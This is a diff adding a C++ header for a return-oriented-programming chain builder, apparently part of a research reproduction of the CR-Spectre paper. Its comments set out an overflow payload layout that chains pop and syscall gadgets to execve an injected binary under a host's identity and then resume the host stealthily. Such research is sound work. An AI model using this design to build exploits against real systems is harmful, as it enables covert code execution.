@@ -1,0 +1,71 @@
+// ROP chain construction: paper Listing 1.
+//
+// The payload the adversary passes as the host's input argument:
+//
+//   [ 0 .. filler )              filler bytes; the execve path string is
+//                                embedded at offset 0 (it must live at a
+//                                known address — the buffer itself)
+//   [ filler + 0 ]               &(pop r1; ret)     ← overwrites saved ret
+//   [ filler + 8 ]               buffer_address     (pointer to the path)
+//   [ filler + 16 ]              &(pop r0; ret)
+//   [ filler + 24 ]              SYS_EXECVE
+//   [ filler + 32 ]              &(syscall; ret)
+//   [ filler + 40 ]              resume address     (host continues here)
+//
+// When the vulnerable function returns, control flows through the chain:
+// r1 ← path pointer, r0 ← SYS_EXECVE, syscall spawns the CR-Spectre binary
+// under the host's identity, and the trailing `ret` of the syscall gadget
+// pops the resume address so the host completes its work (paper Fig. 1).
+#pragma once
+
+#include <cstdint>
+#include <span>
+#include <string>
+#include <vector>
+
+#include "rop/gadget.hpp"
+
+namespace crs::rop {
+
+struct ExecveChainSpec {
+  /// Registry path of the binary to spawn (e.g. "/bin/cr_spectre").
+  std::string binary_path;
+  /// Where the host should continue after the injected binary exits.
+  std::uint64_t resume_address = 0;
+  /// Runtime address the host will copy the payload to (from recon).
+  std::uint64_t buffer_address = 0;
+  /// Bytes between the buffer start and the saved return address
+  /// (from recon; the paper's 108-byte filler).
+  std::uint64_t filler_length = 0;
+};
+
+struct OverflowPayload {
+  std::vector<std::uint8_t> bytes;
+  std::uint64_t path_offset = 0;  ///< offset of the path string in `bytes`
+
+  /// Gadget addresses used, for reporting/tests.
+  std::uint64_t pop_r1_gadget = 0;
+  std::uint64_t pop_r0_gadget = 0;
+  std::uint64_t syscall_gadget = 0;
+};
+
+class ChainBuilder {
+ public:
+  /// Words appended behind the filler by build_execve_payload.
+  static constexpr std::size_t kExecveChainWords = 6;
+
+  /// Keeps a reference to the catalogue; it must outlive the builder.
+  explicit ChainBuilder(std::span<const Gadget> gadgets);
+
+  /// True when the catalogue contains every gadget the execve chain needs.
+  bool can_build_execve() const;
+
+  /// Builds the Listing-1 payload. Throws crs::Error when a required
+  /// gadget is missing or the filler cannot hold the path string.
+  OverflowPayload build_execve_payload(const ExecveChainSpec& spec) const;
+
+ private:
+  std::span<const Gadget> gadgets_;
+};
+
+}  // namespace crs::rop
